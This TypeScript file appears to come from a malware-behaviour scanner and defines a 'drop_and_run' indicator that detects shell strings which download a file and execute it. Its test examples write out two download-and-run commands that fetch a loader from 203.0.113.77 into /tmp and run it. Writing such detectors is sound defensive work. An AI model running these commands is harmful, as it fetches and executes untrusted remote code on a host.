import { baseName } from '../names.ts';
import { short } from '../phrases.ts';
import { written } from './download-exec-dir.ts';
import type { Indicator } from './types.ts';

/** One string downloads a file and runs it. */
export const dropAndRun: Indicator = {
  id: 'drop_and_run',
  points: 20,
  hard: true,
  in_strings: true,
  mitre: ['T1105', 'T1204.002'],
  title: 'Downloads a file and runs it',
  description:
    "The same shell string writes a download and then makes it executable or runs it. Hard in the shell's own event, soft for the downloading child.",
  evaluate(context) {
    const { relation, own_string } = context;
    if (!relation || relation.runs.length === 0) return undefined;
    const file = written(context).find(
      (entry) =>
        relation.runs.includes(entry.path) ||
        relation.runs.some((path) => !path.startsWith('/') && baseName(path) === baseName(entry.path)),
    );
    if (!file) return undefined;
    return {
      ...(own_string ? {} : { hard: false }),
      evidence: short(file.path),
      why: `the same shell string downloads ${short(file.path)} and runs it or makes it executable`,
    };
  },
  examples: {
    fires: [
      { run: "sh -c 'wget -q -O /tmp/ldr.sh http://203.0.113.77/ldr.sh;sh /tmp/ldr.sh'" },
      { run: "sh -c 'curl -so /tmp/x http://203.0.113.77/x && chmod +x /tmp/x && /tmp/x'" },
    ],
    silent: [{ run: "sh -c 'curl -o /tmp/t.tgz https://dl.example.com/t.tgz && tar xzf /tmp/t.tgz'" }],
  },
};
